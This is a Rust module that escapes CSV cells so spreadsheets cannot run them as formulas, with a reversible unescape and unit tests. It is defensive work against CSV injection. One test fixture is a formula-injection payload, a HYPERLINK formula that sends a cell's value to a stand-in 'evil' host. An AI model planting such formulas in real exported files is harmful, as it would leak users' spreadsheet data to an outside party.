//! The one CSV reader and writer configuration every command shares (input files, reports,
//! listings, inventories): one place decides the dialect forget reads and writes, and how
//! a cell is kept from running as a spreadsheet formula.
//!
//! **Every CSV forget writes is escaped** (OWASP ASVS 1.2.10): a cell starting with `=`,
//! `+`, `-`, `@`, tab, CR or NUL is a formula to Excel, LibreOffice and Google Sheets, even
//! when quoted, so it is written with a `'` in front (`+447700900123` → `'+447700900123`,
//! which a spreadsheet shows as the text `+447700900123`). A cell that already starts with
//! `'` and then one of those characters gets one more `'`, so the escape can be undone
//! exactly. **Every CSV forget reads is un-escaped** by [`unescape_cell`]: the files meant
//! to come back (`needs-attention.csv`, `forget list`'s CSV) read back as what was written,
//! and a cell starting with `'` followed by anything else (`'quoted`) is never changed.

use std::borrow::Cow;
use std::io::Write;

/// The first characters that make a spreadsheet evaluate a cell.
const FORMULA_START: [char; 7] = ['=', '+', '-', '@', '\t', '\r', '\0'];

/// The shared CSV reader settings: a header row, and records of any length (a ragged row is
/// an invalid row for the caller to report, not a failure of the whole file).
pub fn reader_builder(delimiter: u8) -> csv::ReaderBuilder {
    let mut b = csv::ReaderBuilder::new();
    b.delimiter(delimiter).has_headers(true).flexible(true);
    b
}

/// A cell as written: `'` in front when a spreadsheet would run it as a formula, or when it
/// is `'` (any number of them) followed by such a character.
pub fn escape_cell(cell: &str) -> Cow<'_, str> {
    if cell.trim_start_matches('\'').starts_with(FORMULA_START) {
        Cow::Owned(format!("'{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}

/// A cell as read: [`escape_cell`] undone. Only a `'` followed by (more `'` and) a formula
/// character is dropped, one of them; every other cell is as written.
pub fn unescape_cell(cell: &str) -> &str {
    match cell.strip_prefix('\'') {
        Some(rest) if rest.trim_start_matches('\'').starts_with(FORMULA_START) => rest,
        _ => cell,
    }
}

/// Writes CSV records, every cell through [`escape_cell`]: there is no way to write a raw
/// one.
pub struct Writer<W: Write> {
    inner: csv::Writer<W>,
}

impl<W: Write> Writer<W> {
    pub fn from_writer(w: W) -> Writer<W> {
        Writer {
            inner: csv::WriterBuilder::new().has_headers(true).from_writer(w),
        }
    }

    pub fn write_record<I, T>(&mut self, record: I) -> csv::Result<()>
    where
        I: IntoIterator<Item = T>,
        T: AsRef<str>,
    {
        for cell in record {
            self.inner
                .write_field(escape_cell(cell.as_ref()).as_bytes())?;
        }
        self.inner.write_record(None::<&[u8]>)
    }

    pub fn flush(&mut self) -> std::io::Result<()> {
        self.inner.flush()
    }

    /// Flush and hand back the underlying writer.
    pub fn into_inner(self) -> std::io::Result<W> {
        self.inner.into_inner().map_err(|e| e.into_error())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas_are_escaped_and_come_back_exactly() {
        let cases = [
            (
                "=HYPERLINK(\"http://evil/?\"&A1)",
                "'=HYPERLINK(\"http://evil/?\"&A1)",
            ),
            ("+447700900123", "'+447700900123"),
            ("-x", "'-x"),
            ("@a", "'@a"),
            ("\t=1+2", "'\t=1+2"),
            ("\rx", "'\rx"),
            ("\0x", "'\0x"),
            ("'=1", "''=1"),
            ("''+1", "'''+1"),
            ("'quoted", "'quoted"),
            ("'", "'"),
            ("", ""),
            ("plain", "plain"),
            ("a=b", "a=b"),
        ];
        for (value, written) in cases {
            assert_eq!(escape_cell(value), written, "{value:?}");
            assert_eq!(unescape_cell(written), value, "{written:?}");
        }
    }

    #[test]
    fn every_written_cell_is_escaped_even_when_quoted() -> Result<(), Box<dyn std::error::Error>> {
        let mut w = Writer::from_writer(Vec::new());
        w.write_record(["key", "=a,b", "x"])?;
        w.write_record(["+1", "", "-"])?;
        let text = String::from_utf8(w.into_inner()?)?;
        assert_eq!(text, "key,\"'=a,b\",x\n'+1,,'-\n");
        // A record of one empty field still reads back as one field.
        let mut w = Writer::from_writer(Vec::new());
        w.write_record(["id"])?;
        w.write_record([""])?;
        assert_eq!(String::from_utf8(w.into_inner()?)?, "id\n\"\"\n");
        Ok(())
    }
}
